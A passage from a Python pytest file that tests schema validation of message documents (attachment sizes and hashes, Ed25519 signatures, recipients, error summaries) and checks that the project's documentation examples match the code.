        ({"size": -1}, "size", "greater than or equal to 0"),
        ({"size": 2**53}, "size", "less than or equal to"),
        ({"size": True}, "size", "whole number"),
        ({"sha256": "ABC"}, "sha256", "pattern"),
    ],
)
def test_attachments_are_checked(attachment: dict[str, Any], path: str, message: str) -> None:
    base = dict(RICH["attachments"][0], **attachment)
    errors = errors_of(document(attachments=[base]))
    assert message in errors[f"/attachments/0/{path}"]


@pytest.mark.parametrize(
    ("signature", "message"),
    [
        ({"value": "not base64!"}, "not base64"),
        ({"value": base64.b64encode(b"x" * 32).decode()}, "64 bytes, not 32"),
        ({"algorithm": "RSA"}, "Ed25519"),
    ],
)
def test_signatures_are_checked(signature: dict[str, Any], message: str) -> None:
    errors = errors_of(document(signature={**RICH["signature"], **signature}))
    assert any(message in m for p, m in errors.items() if p.startswith("/signature"))


def test_the_detail_names_the_first_problems_and_counts_the_rest() -> None:
    items = [item(f"p{i}", "Person", "B2", dob="x") for i in range(15)]
    exc = refused(from_data, document(items=items))
    assert exc.detail.startswith("invalid message document: /items/0/properties/dob:")
    assert exc.detail.endswith("(and 20 more)")
    assert len(exc.extra["errors"]) == 30


def test_documents_built_in_code_are_checked_too() -> None:
    doc = MessageDocument.model_validate(document())
    assert doc.recipients[0].kind == "to"
    with pytest.raises(ValueError, match="at least one 'to' recipient"):
        MessageDocument.model_validate(document(recipients=[{"agency": "NL-NP", "kind": "cc"}]))


# ----- documentation -------------------------------------------------------------------------

DOCS = (Path(__file__).parents[2] / "docs" / "message-document.md").read_text(encoding="utf-8")


def _block(language: str) -> bytes:
    match = re.search(rf"```{language}\n(.*?)\n```", DOCS, flags=re.S)
    assert match is not None, f"docs/message-document.md has no {language} example"
    return match.group(1).encode("utf-8")


def test_the_documented_examples_are_the_same_valid_document() -> None:
    from_json, from_xml = parse_json(_block("json")), parse_xml(_block("xml"))
    assert from_json == from_xml
    assert to_json(from_json) == _block("json")
    assert to_xml(from_xml).rstrip(b"\n") == _block("xml")


def test_the_documented_item_types_are_the_entities_schema() -> None:
    for etype in SCHEMA.types.values():
        row = re.search(rf"^\| {etype.name} \|.*$", DOCS, flags=re.M)
        assert row is not None, f"{etype.name} is missing from docs/message-document.md"
        assert all(f"`{name}`" in row.group() for name in etype.properties)
    for name in SCHEMA.links:
        assert f"| `{name}` |" in DOCS
